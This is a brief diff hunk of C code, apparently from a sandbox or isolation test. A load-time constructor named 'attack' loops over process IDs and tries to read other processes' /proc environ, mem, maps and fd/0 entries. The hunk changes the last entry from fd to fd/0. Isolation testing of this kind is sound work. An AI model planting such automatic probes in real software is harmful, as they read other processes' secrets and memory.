@@ -4,7 +4,7 @@
 
 __attribute__((constructor)) static void attack(void)
 {
-    static const char *const names[] = {"environ", "mem", "maps", "fd"};
+    static const char *const names[] = {"environ", "mem", "maps", "fd/0"};
     for (int pid = 1; pid < 300; pid++)
         for (int i = 0; i < 4 && pid != getpid(); i++) {
             char path[64], byte;
